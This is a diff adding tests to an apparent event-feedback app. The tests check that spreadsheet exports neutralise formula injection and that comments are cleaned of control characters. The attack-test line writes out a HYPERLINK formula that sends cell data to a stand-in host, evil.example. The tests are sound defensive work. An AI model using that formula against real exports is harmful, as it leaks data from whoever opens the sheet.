@@ -137,3 +137,36 @@ async def test_results_export_keeps_chinese_and_marks_hidden(organiser):
     xlsx = await organiser.get(f"/organiser/events/{event['id']}/feedback/results.xlsx")
     rows = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))
     assert rows[0][:4] == ("工作法", "单位", "党支部", "评分") and rows[1][0] == "37℃学习法" and rows[1][3] == 4
+
+
+async def test_results_export_has_no_formula_and_survives_a_control_character(organiser):
+    from events.tables import Feedback
+    from tests.sheets import csv_rows, formulas_in_csv, formulas_in_xlsx, xlsx_cells
+
+    event, item = await event_with_talk(organiser)
+    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    assert (await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": attack})).status_code == 200
+    base = f"/organiser/events/{event['id']}/feedback/results"
+    sheet = (await organiser.get(f"{base}.xlsx")).content
+    assert formulas_in_xlsx(sheet) == [] and xlsx_cells(sheet)[1][4] == ("'" + attack, "s")
+    assert formulas_in_csv((await organiser.get(f"{base}.csv")).content) == []
+    # A comment stored before text was cleaned on the way in: the exports still answer.
+    await organiser.run(lambda: Feedback.update({Feedback.comment: "@SUM(1,2)\x01\x0b好"}).where(Feedback.event == event["id"]))
+    xlsx, csv = await organiser.get(f"{base}.xlsx"), await organiser.get(f"{base}.csv")
+    assert xlsx.status_code == 200 and xlsx_cells(xlsx.content)[1][4] == ("'@SUM(1,2)好", "s")
+    assert csv.status_code == 200 and csv_rows(csv.content)[1][4] == "'@SUM(1,2)好"
+
+
+async def test_comment_control_characters_are_removed_and_nul_refused(organiser):
+    event, item = await event_with_talk(organiser)
+    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
+    saved = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": "很\x01实用\u202e\x1b\n第二行"})
+    assert saved.status_code == 200 and await rows(organiser, event["id"]) == [{"rating": 4, "comment": "很实用\n第二行"}]
+    refused = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "5", "comment": "很\x00实用"})
+    assert refused.status_code == 400 and "无法保存" in text_of(refused.text)
+    assert await rows(organiser, event["id"]) == [{"rating": 4, "comment": "很实用\n第二行"}]
+    overall = await organiser.form("/e/shuixin-2026/feedback/overall", {"rating": "5", "comment": "整体\x07不错\u2066"})
+    from events.tables import EventVote
+
+    assert overall.status_code == 200 and await organiser.run(lambda: EventVote.select(EventVote.comment)) == [{"comment": "整体不错"}]
